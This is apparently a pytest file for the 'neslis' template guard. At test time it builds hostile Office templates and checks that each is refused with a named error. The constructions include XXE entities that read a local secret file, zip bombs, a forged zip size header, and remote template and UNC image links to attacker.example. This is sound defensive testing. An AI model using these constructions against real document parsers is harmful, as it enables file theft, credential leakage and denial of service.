"""Hostile and broken templates, made at test time: refused by name, never a traceback.

Templates come by email. Each one here is refused through ``neslis build`` with exit 2 and
a message naming the template file, before any output is written; a zip bomb is refused
from the zip directory's sizes before any part is inflated; an external entity never lets a
local file's text reach an output or a message. Real templates saved as ``.potx``/``.dotx``
build.
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pptx
import pytest

from neslis_desktop.errors import TemplateError
from neslis_desktop.render import template_guard
from neslis_desktop.render.template_guard import check_template
from neslis_desktop.resources import bundled_deck_template, bundled_doc_template

from .conftest import CliRun, deck_text, draft_text

SECRET = "TOP-SECRET-7f3a9c"
PPTX_DEFAULT = Path(pptx.__file__).parent / "templates" / "default.pptx"
DOCX_DEFAULT = Path(docx.__file__).parent / "templates" / "default.docx"
TEMPLATE_TYPE = "presentationml.template.main+xml"
Maker = Callable[[Path], Path]


def rezip(
    source: Path, target: Path, edits: dict[str, bytes | None] | None = None, add: dict[str, bytes] | None = None
) -> Path:
    """A copy of the package ``source`` with parts replaced (``None``: removed) and added."""
    edits, add = edits or {}, add or {}
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if info.filename in edits:
                data = edits[info.filename]
                if data is not None:
                    out.writestr(info.filename, data)
            else:
                out.writestr(info, src.read(info))
        for name, data in add.items():
            out.writestr(name, data)
    return target


def part(source: Path, name: str) -> bytes:
    with zipfile.ZipFile(source) as package:
        return package.read(name)


def _xxe(target: Path, part_name: str) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        secret = tmp / "secret.txt"
        secret.write_text(SECRET, "utf-8")
        original = part(PPTX_DEFAULT, part_name).decode("utf-8")
        head, _, body = original.partition("?>")
        doctype = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
        hostile = f"{head}?>{doctype}{body}".replace("<dc:title", "<dc:title>&xxe;</dc:title><dc:x", 1)
        return rezip(PPTX_DEFAULT, tmp / target.name, {part_name: hostile.encode("utf-8")})

    return make


def _xxe_utf16(tmp: Path) -> Path:
    secret = tmp / "secret.txt"
    secret.write_text(SECRET, "utf-8")
    xml = (
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&xxe;</dc:title></cp:coreProperties>'
    )
    return rezip(PPTX_DEFAULT, tmp / "utf16.pptx", {"docProps/core.xml": xml.encode("utf-16")})


def _doctype_after_long_comment(tmp: Path) -> Path:
    xml = part(PPTX_DEFAULT, "docProps/app.xml").decode("utf-8")
    head, _, body = xml.partition("?>")
    hostile = f"{head}?><!--{'x' * 10_000}--><!DOCTYPE x [<!ENTITY a 'b'>]>{body}"
    return rezip(PPTX_DEFAULT, tmp / "comment.pptx", {"docProps/app.xml": hostile.encode("utf-8")})


def _bomb(tmp: Path) -> Path:
    target = rezip(PPTX_DEFAULT, tmp / "bomb.pptx")
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("ppt/bomb.xml", b"\0" * (template_guard.MAX_PART_BYTES + 1))
    return target


def _ratio_bomb(tmp: Path) -> Path:
    return rezip(PPTX_DEFAULT, tmp / "ratio.pptx", add={"ppt/slides/big.xml": b"<a>" + b" " * 3_000_000 + b"</a>"})


def _lying_header(tmp: Path) -> Path:
    """A part whose directory entry says 1,000 bytes but whose data inflates to 8 MB."""
    target = rezip(PPTX_DEFAULT, tmp / "lying.pptx", add={"ppt/lie.bin": b"\0" * 8_000_000})
    data = bytearray(target.read_bytes())
    central = data.rindex(b"ppt/lie.bin") - 46  # the central directory entry of the part
    assert data[central : central + 4] == b"PK\x01\x02"
    struct.pack_into("<I", data, central + 24, 1000)
    local = struct.unpack_from("<I", data, central + 42)[0]
    struct.pack_into("<I", data, local + 22, 1000)
    target.write_bytes(bytes(data))
    with zipfile.ZipFile(target) as package:
        assert package.getinfo("ppt/lie.bin").file_size == 1000
    return target


def _encrypted_entry(tmp: Path) -> Path:
    target = rezip(PPTX_DEFAULT, tmp / "encrypted.pptx")
    data = bytearray(target.read_bytes())
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at != -1:
            data[at + flag_at] |= 0x1
            at = data.find(signature, at + 4)
    target.write_bytes(bytes(data))
    return target


def _bad_crc(tmp: Path) -> Path:
    target = rezip(PPTX_DEFAULT, tmp / "crc.pptx")
    with zipfile.ZipFile(target) as package:
        info = package.getinfo("docProps/thumbnail.jpeg")
    data = bytearray(target.read_bytes())
    start = info.header_offset + 30 + len(info.filename) + len(info.extra) + 20
    data[start] ^= 0xFF
    target.write_bytes(bytes(data))
    return target


def _no_title_layout(tmp: Path) -> Path:
    edits: dict[str, bytes | None] = {}
    with zipfile.ZipFile(PPTX_DEFAULT) as package:
        for name in package.namelist():
            if name.startswith("ppt/slideLayouts/slideLayout") and name.endswith(".xml"):
                xml = package.read(name)
                edits[name] = xml.replace(b'type="title"', b'type="body"').replace(b'type="ctrTitle"', b'type="body"')
    return rezip(PPTX_DEFAULT, tmp / "notitle.pptx", edits)


def _docx_without_styles(tmp: Path) -> Path:
    types = part(DOCX_DEFAULT, "[Content_Types].xml").replace(
        b'<Override PartName="/word/styles.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>',
        b"",
    )
    return rezip(
        DOCX_DEFAULT,
        tmp / "nostyles.docx",
        {
            "word/styles.xml": None,
            "[Content_Types].xml": types,
            "word/_rels/document.xml.rels": _drop_rel(
                part(DOCX_DEFAULT, "word/_rels/document.xml.rels"), b'Target="styles.xml"'
            ),
        },
    )


def _drop_rel(rels: bytes, marker: bytes) -> bytes:
    from lxml import etree

    root = etree.fromstring(rels)
    for rel in list(root):
        if marker.decode() in etree.tostring(rel).decode():
            root.remove(rel)
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def _dangling(tmp: Path) -> Path:
    return rezip(PPTX_DEFAULT, tmp / "dangling.pptx", {"ppt/slideLayouts/slideLayout11.xml": None})


def _macro_type(tmp: Path) -> Path:
    types = part(PPTX_DEFAULT, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    )
    return rezip(PPTX_DEFAULT, tmp / "renamed-pptm.pptx", {"[Content_Types].xml": types})


def _add_rel(rels: bytes, rel_type: str, target: str) -> bytes:
    from lxml import etree

    root = etree.fromstring(rels)
    etree.SubElement(
        root,
        f"{{{root.nsmap[None]}}}Relationship",
        Id="rIdLink",
        TargetMode="External",
        Type=f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{rel_type}",
        Target=target,
    )
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def _remote_attached_template(tmp: Path) -> Path:
    rels = "word/_rels/settings.xml.rels"
    with zipfile.ZipFile(DOCX_DEFAULT) as package:
        has = rels in package.namelist()
    empty = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    )
    data = _add_rel(
        part(DOCX_DEFAULT, rels) if has else empty, "attachedTemplate", "http://attacker.example/normal.dotm"
    )
    return rezip(DOCX_DEFAULT, tmp / "injected.docx", {rels: data} if has else {}, {} if has else {rels: data})


def _unc_linked_picture(tmp: Path) -> Path:
    rels = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
    data = _add_rel(part(PPTX_DEFAULT, rels), "image", "\\\\attacker.example\\share\\logo.png")
    return rezip(PPTX_DEFAULT, tmp / "unc.pptx", {rels: data})


def _write(name: str, data: bytes) -> Maker:
    def make(tmp: Path) -> Path:
        (tmp / name).write_bytes(data)
        return tmp / name

    return make


def _folder(path: Path) -> Path:
    path.mkdir()
    return path


HOSTILE: list[tuple[str, str, Maker, str]] = [
    ("not-a-zip", "deck", _write("notes.pptx", b"These are my speaker notes, not a deck.\n" * 20), "not a"),
    ("empty-file", "deck", _write("empty.pptx", b""), "not a"),
    ("truncated-zip", "deck", lambda t: _write("cut.pptx", PPTX_DEFAULT.read_bytes()[:20_000])(t), "damaged"),
    ("truncated-zip-docx", "doc", lambda t: _write("cut.docx", DOCX_DEFAULT.read_bytes()[:9_000])(t), "damaged"),
    ("zip-bomb", "deck", _bomb, "zip bomb"),
    ("ratio-bomb", "deck", _ratio_bomb, "zip bomb"),
    ("lying-header", "deck", _lying_header, "damaged"),
    ("xxe-core-properties", "deck", _xxe(Path("xxe.pptx"), "docProps/core.xml"), "document type declaration"),
    ("xxe-utf16", "deck", _xxe_utf16, "document type declaration"),
    ("doctype-after-long-comment", "deck", _doctype_after_long_comment, "document type declaration"),
    ("macro-suffix-pptm", "deck", lambda t: _write("deck.pptm", PPTX_DEFAULT.read_bytes())(t), "macro-enabled"),
    ("macro-suffix-docm", "doc", lambda t: _write("draft.docm", DOCX_DEFAULT.read_bytes())(t), "macro-enabled"),
    (
        "vba-project-inside",
        "deck",
        lambda t: rezip(PPTX_DEFAULT, t / "vba.pptx", add={"ppt/vbaProject.bin": b"x" * 99}),
        "contains macros",
    ),
    ("macro-content-type", "deck", _macro_type, "macro-enabled"),
    (
        "ole-password-protected",
        "deck",
        _write("locked.pptx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096),
        "password-protected",
    ),
    (
        "ole-password-protected-docx",
        "doc",
        _write("locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096),
        "password-protected",
    ),
    ("encrypted-zip-entries", "deck", _encrypted_entry, "password-protected"),
    ("bad-crc", "deck", _bad_crc, "damaged"),
    ("no-title-layout", "deck", _no_title_layout, "title placeholder"),
    ("docx-without-styles", "doc", _docx_without_styles, "no styles part"),
    ("dangling-relationship", "deck", _dangling, "missing"),
    (
        "malformed-xml",
        "deck",
        lambda t: rezip(PPTX_DEFAULT, t / "broken.pptx", {"ppt/presentation.xml": b"<p:pres"}),
        "not well-formed",
    ),
    ("remote-attached-template", "doc", _remote_attached_template, "on another computer"),
    ("unc-linked-picture", "deck", _unc_linked_picture, "on another computer"),
    ("word-file-as-deck", "deck", lambda t: _write("draft.pptx", DOCX_DEFAULT.read_bytes())(t), "not a"),
    ("deck-as-word-file", "doc", lambda t: _write("deck.docx", PPTX_DEFAULT.read_bytes())(t), "not a"),
    ("wrong-suffix", "deck", lambda t: _write("deck.pdf", PPTX_DEFAULT.read_bytes())(t), "not a"),
    ("a-folder", "deck", lambda t: _folder(t / "folder.pptx"), "not a file"),
    ("missing-file", "deck", lambda t: t / "nowhere.pptx", "does not exist"),
]


@pytest.mark.parametrize("case", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_template_is_refused(
    case: tuple[str, str, Maker, str], base_dir: Path, tmp_path: Path, cli: Callable[..., CliRun]
) -> None:
    _, which, make, fragment = case
    scratch = tmp_path / "mail"
    scratch.mkdir()
    template = make(scratch)
    out = tmp_path / "out"
    flag = "--deck-template" if which == "deck" else "--doc-template"
    run = cli("build", base_dir, "-o", out, flag, template)
    assert run.code == 2, run.err
    assert "Traceback" not in run.err
    assert template.name in run.err, run.err
    assert fragment in run.err, run.err
    assert SECRET not in run.err + run.out
    assert not out.exists() or not any(out.iterdir())


def test_hostile_templates_are_many() -> None:
    assert len(HOSTILE) >= 20


def test_zip_bomb_is_refused_before_inflating(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = _bomb(tmp_path)
    with zipfile.ZipFile(bomb) as package:
        sizes = {i.filename: (i.compress_size, i.file_size) for i in package.infolist()}
    packed, inflated = sizes["ppt/bomb.xml"]
    assert inflated > template_guard.MAX_PART_BYTES and packed < 200_000
    reads: list[str] = []
    original = zipfile.ZipFile.open

    def spy(self: zipfile.ZipFile, name: object, *args: object, **kwargs: object) -> object:
        reads.append(getattr(name, "filename", name))  # type: ignore[arg-type]
        return original(self, name, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    with pytest.raises(TemplateError, match="zip bomb"):
        check_template(bomb, "pptx")
    assert reads == []


def test_total_size_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(template_guard, "MAX_TOTAL_BYTES", 10_000)
    with pytest.raises(TemplateError, match=r"default\.pptx would unpack"):
        check_template(PPTX_DEFAULT, "pptx")


def test_python_pptx_itself_does_not_resolve_external_entities(tmp_path: Path) -> None:
    """Belt and braces: even past the guard, the Office libraries' parser leaves entities alone."""
    from docx.oxml.parser import parse_xml as docx_parse
    from lxml import etree
    from pptx.oxml import parse_xml as pptx_parse

    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, "utf-8")
    xml = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]><x>&xxe;</x>'.encode()
    for parse in (pptx_parse, docx_parse):
        assert SECRET not in etree.tostring(parse(xml)).decode()


def test_templates_are_accepted_and_build(
    tmp_path: Path, base_dir: Path, cli: Callable[..., CliRun], validate: Callable[..., str]
) -> None:
    """A .potx and a .dotx (Office's template files) build like .pptx and .docx."""
    deck_source = bundled_deck_template() if bundled_deck_template().exists() else PPTX_DEFAULT
    doc_source = bundled_doc_template() if bundled_doc_template().exists() else DOCX_DEFAULT
    potx = rezip(
        deck_source,
        tmp_path / "partner.potx",
        {
            "[Content_Types].xml": part(deck_source, "[Content_Types].xml").replace(
                b"presentationml.presentation.main+xml", TEMPLATE_TYPE.encode()
            )
        },
    )
    dotx = rezip(
        doc_source,
        tmp_path / "partner.dotx",
        {
            "[Content_Types].xml": part(doc_source, "[Content_Types].xml").replace(
                b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml"
            )
        },
    )
    check_template(potx, "pptx")
    check_template(dotx, "docx")
    partner_files = potx.read_bytes(), dotx.read_bytes()
    out = tmp_path / "out"
    run = cli("build", base_dir, "-o", out, "--deck-template", potx, "--doc-template", dotx)
    assert run.code == 0, run.err
    deck, draft = next(out.glob("*.pptx")), next(out.glob("*.docx"))
    validate(deck, draft)
    assert deck_text(deck).strip() and draft_text(draft).strip()
    assert b"template.main+xml" not in part(deck, "[Content_Types].xml")
    assert (potx.read_bytes(), dotx.read_bytes()) == partner_files  # the partner's files are only read


def test_external_hyperlinks_and_local_links_are_fine(tmp_path: Path) -> None:
    rels = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
    linked = _add_rel(part(PPTX_DEFAULT, rels), "hyperlink", "https://www.northeastlep.co.uk/")
    check_template(rezip(PPTX_DEFAULT, tmp_path / "hyperlink.pptx", {rels: linked}), "pptx")
    local = _add_rel(part(PPTX_DEFAULT, rels), "image", "file:///C:/Pictures/logo.png")
    check_template(rezip(PPTX_DEFAULT, tmp_path / "local.pptx", {rels: local}), "pptx")


def test_real_templates_pass_the_guard(
    pandoc_reference: Callable[[str], Path], tmp_path: Path, cli: Callable[..., CliRun], base_dir: Path
) -> None:
    """No false alarms: Pandoc's reference files, the libraries' defaults and our own outputs."""
    out = tmp_path / "out"
    assert cli("build", base_dir, "-o", out).code == 0
    for path, kind in [
        (pandoc_reference("pptx"), "pptx"),
        (pandoc_reference("docx"), "docx"),
        (PPTX_DEFAULT, "pptx"),
        (DOCX_DEFAULT, "docx"),
        (next(out.glob("*.pptx")), "pptx"),
        (next(out.glob("*.docx")), "docx"),
    ]:
        check_template(path, kind)  # type: ignore[arg-type]


@pytest.mark.slow
def test_libreoffice_template_passes_the_guard(libreoffice_template: Callable[[str], Path]) -> None:
    check_template(libreoffice_template("Vivid"), "pptx")
